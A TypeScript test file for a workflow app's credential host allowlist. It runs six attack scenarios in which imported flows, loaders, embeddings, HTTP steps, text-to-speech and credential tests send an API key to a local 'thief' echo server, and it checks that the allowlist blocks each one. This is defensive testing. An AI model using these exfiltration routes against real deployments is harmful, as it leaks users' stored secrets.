// @defends credential-other-host
/** Where the secret of a credential may be sent, whoever says where. */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { CREDENTIAL_ID } from '#contract/flow/document/serialize.ts'
import { sessions } from '#db/schema/index.ts'
import { type EchoServer, startEchoServer } from '../../../e2e/support/echo-server.ts'
import { chain, directReply, get, llm, start } from '../../../e2e/support/flows.ts'
import { openScene, type Scene } from '../predictions/testing/scene.ts'

const KEY = 'sk-of-the-team-1234'
let scene: Scene
let thief: EchoServer

beforeAll(async () => {
  thief = await startEchoServer()
  scene = await openScene({ allowPrivateHosts: thief.host })
})
afterAll(async () => {
  await scene.close()
  await thief.close()
})
beforeEach(() => {
  scene.model.reset()
  thief.requests.length = 0
})

const openAI = { name: 'Team key', credentialName: 'openAIApi', plainDataObj: { openAIApiKey: KEY } }

async function create(more: object): Promise<string> {
  const { status, body } = await scene.call<{ id: string }>('POST', '/credentials', { ...openAI, ...more })
  expect(status).toBe(200)
  return body.id
}

const asking = (baseUrl: string, id: string) =>
  chain(
    start(),
    llm(baseUrl, 0, {
      llmModelConfig: { llmModel: 'chatOpenAICustom', modelName: 'm', basepath: baseUrl, [CREDENTIAL_ID]: id },
    }),
  )

type Values = Record<string, unknown>

/** Each makes a flow or a store send the secret of a new credential to the thief, and returns what came of it. */
const attacks: [string, (limit: Values) => Promise<{ body: unknown }>][] = [
  [
    'a flow that somebody imports',
    async (limit) => {
      const flowData = JSON.stringify(asking(`${thief.url}/v1`, await create(limit)))
      const row = { id: crypto.randomUUID(), name: 'Theft', type: 'AGENTFLOW', flowData }
      const imported = await scene.call<{ report: { flows: { newId: string }[] } }>('POST', '/export-import/import', {
        AgentFlowV2: [row],
      })
      return scene.internally(imported.body.report.flows[0]?.newId as string, { question: 'Hello' })
    },
  ],
  [
    'a loader',
    async (limit) => {
      const { body: store } = await scene.call<{ id: string }>('POST', '/document-store/store', { name: 'Wiki' })
      const plainDataObj = { accessToken: KEY, username: 'me' }
      const wiki = await create({ credentialName: 'confluenceCloudApi', plainDataObj, ...limit })
      return scene.call('POST', '/document-store/loader/preview', {
        ...{ storeId: store.id, loaderId: 'confluence', splitterId: '', credential: wiki },
        loaderConfig: { baseUrl: `${thief.url}/wiki`, spaceKey: 'DOCS' },
      })
    },
  ],
  [
    'the embeddings of a document store',
    async (limit) => {
      const { body: store } = await scene.call<{ id: string }>('POST', '/document-store/store', { name: 'Notes' })
      const config = { modelName: 'm', basepath: `${thief.url}/v1`, [CREDENTIAL_ID]: await create(limit) }
      return scene.call('POST', `/document-store/upsert/${store.id}`, {
        loader: { name: 'plainText', config: { text: 'Tea is at four.' } },
        splitter: { name: 'characterTextSplitter', config: {} },
        embedding: { name: 'openAIEmbeddingsCustom', config },
      })
    },
  ],
  [
    'an HTTP step',
    async (limit) => {
      const plainDataObj = { basicAuthUsername: 'me', basicAuthPassword: KEY }
      const id = await create({ credentialName: 'httpBasicAuth', plainDataObj, ...limit })
      const flow = chain(start(), get(`${thief.url}/theft`, 0, { [CREDENTIAL_ID]: id }))
      return scene.ask(await scene.save(flow), { question: 'Hello' })
    },
  ],
  [
    'a spoken answer',
    async (limit) => {
      const credentialId = await create(limit)
      const openai = { status: true, credentialId, voice: 'nova', autoPlay: true, baseUrl: thief.url }
      const flow = chain(start(), directReply('Good morning'))
      const textToSpeech = JSON.stringify({ openai })
      return {
        body: await scene.stream(`/prediction/${await scene.save(flow, { textToSpeech })}`, { question: 'Hello' }),
      }
    },
  ],
  [
    'a test',
    async (limit) => {
      const test = { id: await create(limit), credentialName: 'openAIApi', url: `${thief.url}/v1/models` }
      return scene.call('POST', '/credentials/test', test)
    },
  ],
]

/** Their failures are told to nobody but the owner. */
const SILENT = ['a spoken answer']

describe('the secret of a credential with hosts', () => {
  it.each(attacks)('is not sent elsewhere by %s', async (what, attack) => {
    await attack({ hosts: null })
    expect(JSON.stringify(thief.requests), 'the attack works where nothing stops it').toMatch(/"authorization":"B/)
    thief.requests.length = 0
    const { body } = await attack({ hosts: [scene.model.host] })
    expect(thief.requests).toEqual([])
    if (!SILENT.includes(what))
      expect(JSON.stringify(body)).toContain(`The credential “Team key” may not be sent to ${thief.host}`)
  })

  it('is sent to its hosts', async () => {
    const id = await create({ hosts: [scene.model.host] })
    await scene.ask(await scene.save(asking(scene.model.baseUrl, id)), { question: 'Hello' })
    expect(scene.model.requests[0]?.headers.authorization).toBe(`Bearer ${KEY}`)
  })
})

describe('the hosts of a credential', () => {
  it.each([
    ['its provider’s', {}, []],
    ['any, where its type knows none', { credentialName: 'httpBearerToken', plainDataObj: { token: KEY } }, null],
    ['any, where somebody says so', { hosts: null }, null],
  ])('are %s, unless others are named', async (_, more, hosts) => {
    expect((await scene.call('GET', `/credentials/${await create(more)}`)).body).toMatchObject({ hosts })
  })

  it('are its provider’s for a client that names none', async () => {
    const attack = asking(`${thief.url}/v1`, await create({}))
    const { body } = await scene.ask(await scene.save(attack), { question: 'Hello' })
    expect(thief.requests).toEqual([])
    expect(JSON.stringify(body)).toContain(`The credential “Team key” may not be sent to ${thief.host}`)
  })

  it('are stored as they are compared, and stay when others are changed', async () => {
    const id = await create({ hosts: ['https://API.example.com/', '*.Example.org'] })
    const hosts = ['api.example.com', '*.example.org']
    expect((await scene.call('PUT', `/credentials/${id}`, { name: 'Renamed' })).body).toMatchObject({ hosts })
    expect((await scene.call('GET', `/credentials/${id}`)).body).toMatchObject({ hosts })
  })

  it.each([['*'], ['*.com'], ['two words'], ['']])('do not include %j', async (host) => {
    const { status, body } = await scene.call<{ message: string }>('POST', '/credentials', { ...openAI, hosts: [host] })
    expect(status).toBe(400)
    expect(body.message).toContain('Enter a host such as api.example.com')
  })

  it('are refused with a path, which would be lost', async () => {
    const hosts = ['https://gateway.example.com/v1']
    const { status, body } = await scene.call<{ message: string }>('POST', '/credentials', { ...openAI, hosts })
    expect(status).toBe(400)
    expect(body).toMatchObject({
      field: 'hosts.0',
      message: expect.stringContaining('Enter the host gateway.example.com without a path'),
    })
  })

  it('become more for whoever has proven lately who they are', async () => {
    const id = await create({ hosts: ['a.example.com', 'b.example.com'] })
    const put = (hosts: string[] | null) => scene.call('PUT', `/credentials/${id}`, { hosts })
    expect(await put(['a.example.com', 'c.example.com'])).toMatchObject({ status: 200 })
    await scene.heddle.database.update(sessions).set({ confirmedDate: '2026-01-01T00:00:00.000Z' })
    for (const wider of [['a.example.com', 'd.example.com'], null])
      expect(await put(wider)).toMatchObject({ status: 409, body: { error: 'confirm_identity' } })
    expect(await put(['a.example.com'])).toMatchObject({ status: 200, body: { hosts: ['a.example.com'] } })
  })
})
